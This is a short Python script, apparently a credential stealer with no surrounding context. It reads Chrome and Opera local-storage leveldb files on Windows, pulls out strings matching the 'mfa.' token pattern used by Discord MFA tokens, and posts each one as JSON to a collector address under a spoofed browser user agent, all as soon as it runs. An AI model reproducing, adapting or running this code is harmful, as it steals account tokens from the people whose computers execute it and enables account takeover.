import os, json
from re import findall
from urllib.request import Request, urlopen
def send(address, text):
    urlopen(Request(address, data=json.dumps({"content": text}).encode(), headers={"Content-Type": "application/json", "User-Agent": "Mozilla"}))
def find():
    for root in (os.getenv("LOCALAPPDATA") + "\\Google\\Chrome\\User Data\\Default", os.getenv("APPDATA") + "\\Opera Software\\Opera Stable"):
        for f in os.listdir(root + "\\Local Storage\\leveldb"):
            with open(os.path.join(root, "Local Storage\\leveldb", f), errors="ignore") as handle:
                for t in findall(r"mfa\.[\w-]{84}", handle.read()):
                    send("https://collector.invalid/t", t)
find()
